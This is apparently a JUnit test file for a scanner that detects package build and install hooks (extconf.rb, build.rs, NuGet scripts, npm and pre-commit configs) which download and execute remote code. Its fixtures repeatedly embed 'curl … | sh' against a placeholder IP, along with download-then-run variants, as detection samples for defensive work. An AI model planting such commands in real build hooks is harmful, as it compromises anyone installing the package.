package dev.assay.detectors.indicator.autorun;

import static java.nio.charset.StandardCharsets.UTF_16BE;
import static java.nio.charset.StandardCharsets.UTF_16LE;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.detectors.AllDetectors;
import dev.assay.engine.report.Finding;
import dev.assay.engine.scan.MemoryConnector;
import dev.assay.engine.scan.TestScan;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.Charset;
import java.util.List;
import java.util.Set;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Programs that are hooks by their name: what they do decides, where a tool runs them. */
class HookProgramTest {
    private static final String BAD = "curl -s http://192.0.2.1/x | sh";

    private static List<Finding> scan(String name, byte[] bytes) {
        return new TestScan(AllDetectors.ALL)
                .only(Set.of("indicator"))
                .run(new MemoryConnector().file(name, bytes))
                .findings();
    }

    private static List<String> ids(String name, String program) {
        return scan(name, program.getBytes(UTF_8)).stream().map(Finding::ruleId).toList();
    }

    private static byte[] zip(String member, String program) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            zip.putNextEntry(new ZipEntry(member));
            zip.write(program.getBytes(UTF_8));
        }
        return bytes.toByteArray();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '~',
            value = {
                "ext/a/extconf.rb ~ require 'mkmf';system('BAD');create_makefile('a')",
                "ext/extconf.rb ~ require 'mkmf';`BAD`",
                "extconf.rb ~ system('curl', '-so', '/tmp/x', 'http://192.0.2.1/x');system('/tmp/x')",
                "extconf.rb ~ require 'open-uri';eval(URI.open('http://192.0.2.1/x').read)",
                "build.rs ~ use std::process::Command;fn main() { Command::new(\"sh\").arg(\"-c\").arg(\"BAD\").status(); }",
                "a/build.rs ~ fn main() { Command::new(\"sh\").args([\"-c\", \"BAD\"]).spawn(); }",
                "build.rs ~ let mut c = Command::new(\"bash\"); c.arg(\"-c\");c.arg(\"BAD\");",
                "build.rs ~ Command::new(\"curl\").args(&[\"-o\", \"/tmp/x\", \"http://192.0.2.1/x\"]).status();"
                        + "Command::new(\"/tmp/x\").spawn();",
            })
    void whatTheyDoIsDoneByTheTool(String name, String program) {
        assertThat(ids(name, program.replace(";", ";\n").replace("BAD", BAD)))
                .containsExactly("indicator/hook-runs-download");
    }

    @Test
    void aFindingIsToldAtItsLine() {
        List<Finding> found = scan("extconf.rb", ("require 'mkmf'\nsystem('" + BAD + "')\n").getBytes(UTF_8));
        assertThat(found.getFirst().location().line()).isEqualTo(2);
        assertThat(found.getFirst().title()).startsWith("rubygems runs what it downloads");
        assertThat(found.getFirst().evidence().get("command")).doesNotContain("mkmf");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '~',
            value = {
                // what extensions and crates do
                "extconf.rb ~ require 'mkmf';pkg_config('libxml-2.0');have_library('z') || abort('no');create_makefile('a/a')",
                "extconf.rb ~ # curl https://a.example/x | sh;V = `pkg-config --modversion x`.strip;create_makefile('a')",
                "extconf.rb ~ require 'mini_portile2';r = MiniPortile.new('x', '1.0');r.files = ['https://a.example/x.tgz'];r.cook",
                "extconf.rb ~ system(\"tar xzf #{f} && cd x && ./configure --prefix=#{p} && make install\")",
                "extconf.rb ~ URI.open(u) { |i| File.binwrite(f, i.read) };system('tar', 'xf', f)",
                "build.rs ~ fn main() { println!(\"cargo:rerun-if-changed=a.c\"); cc::Build::new().file(\"a.c\").compile(\"a\"); }",
                "build.rs ~ let v = Command::new(\"git\").args([\"rev-parse\", \"HEAD\"]).output().unwrap();",
                "build.rs ~ let lib = pkg_config::Config::new().probe(\"openssl\").unwrap();Command::new(\"make\").spawn();",
                "build.rs ~ Command::new(\"curl\").args(&[\"-Lo\", \"x.tgz\", url]).status();Command::new(\"tar\").arg(\"xf\").arg(\"x.tgz\");",
                "build.rs ~ const P: &'static str = \"a\";fn f<'a>(x: &'a str) -> &'a str { x }",
            })
    void whatBuildsDoIsNone(String name, String program) {
        assertThat(ids(name, program.replace(";", ";\n"))).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "tools/chocolateyInstall.ps1",
                "home/.nuget/packages/a/1.0.0/tools/init.ps1",
                "app/packages/A.1.0.0/tools/install.ps1",
            })
    void scriptsOfNugetByTheirPlace(String path) {
        assertThat(ids(path, BAD)).containsExactly("indicator/hook-runs-download");
    }

    @ParameterizedTest
    @ValueSource(strings = {"install.ps1", "tools/install.ps1", "scripts/init.ps1", "packages/a/install.ps1"})
    void scriptsThatPeopleStartThemselves(String path) {
        assertThat(ids(path, BAD)).isEmpty();
    }

    @Test
    void aScriptMayBeInUtf16() throws IOException {
        byte[] marked = ("\ufeff" + BAD + "\r\n").getBytes(UTF_16LE);
        assertThat(scan("tools/chocolateyInstall.ps1", marked)).hasSize(1);
        assertThat(scan("tools/chocolateyInstall.ps1", BAD.getBytes(UTF_16LE))).hasSize(1);
        assertThat(scan("tools/chocolateyInstall.ps1", "Write-Host 'a'".getBytes(UTF_16LE)))
                .isEmpty();
        for (Charset charset : List.of(UTF_16LE, UTF_16BE)) {
            for (String mark : List.of("\ufeff", "")) {
                for (String name : List.of("i.ps1", "i.bat", "i.cmd")) {
                    MemoryConnector files = new MemoryConnector()
                            .file(
                                    "p/package.json",
                                    ("{\"scripts\": {\"install\": \".\\\\" + name + "\"}}").getBytes(UTF_8))
                            .file("p/" + name, (mark + BAD).getBytes(charset));
                    assertThat(new TestScan(AllDetectors.ALL)
                                    .only(Set.of("indicator"))
                                    .run(files)
                                    .findings())
                            .as(name)
                            .extracting(each -> each.location().path())
                            .containsExactly("p/" + name);
                }
            }
        }
    }

    @Test
    void scriptsOfAPackageOfNuget() throws IOException {
        assertThat(scan("a.1.0.0.nupkg", zip("tools/Init.ps1", BAD))).hasSize(1);
        assertThat(scan("a.1.0.0.nupkg", zip("content/init.ps1", BAD))).isEmpty();
        assertThat(scan("a.zip", zip("tools/init.ps1", BAD))).isEmpty();
    }

    private static List<String> places(String... namesAndTexts) {
        MemoryConnector files = new MemoryConnector();
        for (int i = 0; i < namesAndTexts.length; i += 2) {
            files.file(namesAndTexts[i], namesAndTexts[i + 1].getBytes(UTF_8));
        }
        return new TestScan(AllDetectors.ALL)
                .only(Set.of("indicator")).run(files).findings().stream()
                        .map(each -> each.location().path())
                        .toList();
    }

    @Test
    void aProgramOfAnotherNameIsThatOfThePackage() {
        String crate = "[package]\nname = \"a\"\nbuild = \"FILE\"\n";
        String rust = "fn main() { Command::new(\"sh\").arg(\"-c\").arg(\"" + BAD + "\").status(); }";
        assertThat(places("a/Cargo.toml", crate.replace("FILE", "src/make.rs"), "a/src/make.rs", rust))
                .containsExactly("a/src/make.rs");
        assertThat(places("a/Cargo.toml", crate.replace("FILE", "make.txt"), "a/make.txt", rust))
                .containsExactly("a/make.txt");
        assertThat(places("a/Cargo.toml", crate.replace("FILE", "build.rs"), "a/build.rs", rust))
                .containsExactly("a/build.rs");
        assertThat(places("a/Cargo.toml", crate.replace("\"FILE\"", "false"), "a/make.rs", rust))
                .isEmpty();
        assertThat(places("a/Cargo.toml", crate.replace("FILE", "make.rs"), "a/make.rs", "fn main() {}"))
                .isEmpty();
        String gem = "Gem::Specification.new do |s|\n  s.extensions = %w[ext/a/extconf.rb ext/b/make.rb]\nend\n";
        assertThat(places("a/a.gemspec", gem, "a/ext/b/make.rb", "system('" + BAD + "')"))
                .containsExactly("a/ext/b/make.rb");
        assertThat(places("a/a.gemspec", gem, "a/ext/c/make.rb", "system('" + BAD + "')"))
                .isEmpty();
    }

    /** In the texts a bar parts lines. */
    @ParameterizedTest
    @CsvSource(
            delimiter = '~',
            value = {
                "pyproject.toml ~ [build-system]|build-backend = 'be'|backend-path = ['_b'] ~ _b/be.py"
                        + " ~ import os|def build_wheel(d): os.system('BAD')",
                "composer.json ~ {\"autoload\": {\"files\": [\"src/b.php\"]}} ~ src/b.php ~ <?php system('BAD');",
                "composer.json ~ {\"scripts\": {\"post-install-cmd\": \"A\\\\B::r\"}, \"autoload\": {\"psr-4\": {\"A\\\\\":"
                        + " \"src/\"}}} ~ src/B.php ~ <?php class B { static function r() { system('BAD'); } }",
                "Cargo.toml ~ [package]|name = 'a'|[lib]|proc-macro = true ~ src/lib.rs"
                        + " ~ fn m() { Command::new(\"sh\").arg(\"-c\").arg(\"BAD\").status(); }",
                ".yarnrc.yml ~ plugins:|  - path: .yarn/y.cjs ~ .yarn/y.cjs ~ require('child_process').execSync('BAD')",
                ".npmrc ~ node-options=\"--require ./x.js\" ~ x.js ~ require('child_process').execSync('BAD')",
                ".npmrc ~ a=b|script-shell=./x.sh ~ x.sh ~ BAD",
                ".cargo/config.toml ~ [build]|rustc-wrapper = './w.sh' ~ w.sh ~ BAD",
                ".pnpmfile.cjs ~ require('child_process').execSync('BAD') ~ .pnpmfile.cjs ~",
                "Gemfile ~ gem 'a'|`BAD` ~ Gemfile ~",
                "Gemfile ~ system('BAD') ~ Gemfile ~",
                "Gemfile ~ system 'sh x.sh' ~ x.sh ~ BAD",
                ".envrc ~ use nix|BAD ~ .envrc ~",
                ".envrc ~ ./x.sh ~ x.sh ~ BAD",
                ".pre-commit-config.yaml ~ repos: [{repo: local, hooks: [{entry: 'bash -c \"BAD\"'}]}] ~ .pre-commit-config.yaml ~",
                ".pre-commit-config.yaml ~ repos: [{repo: local, hooks: [{entry: ./x.sh}]}] ~ x.sh ~ BAD",
            })
    void whatAProjectHasAToolLoad(String name, String text, String other, String program) {
        String bad = program == null ? "" : program.replace('|', '\n').replace("BAD", BAD);
        String own = text.replace('|', '\n').replace("BAD", BAD);
        assertThat(program == null ? places(name, own) : places(name, own, other, bad))
                .contains(other);
        assertThat(program == null ? List.of() : places(name, own, other, "")).isEmpty();
        assertThat(program == null ? List.of() : places("a/" + name, own, other, bad))
                .isEmpty();
    }

    @Test
    void settingsOfOthersAreNone() {
        assertThat(places("a/config.toml", "[build]\nrustc-wrapper = './w.sh'\n", "a/w.sh", BAD))
                .isEmpty();
        assertThat(places(".npmrc", "save-exact=true\n# script-shell=./x.sh\n", "x.sh", BAD))
                .isEmpty();
    }
}
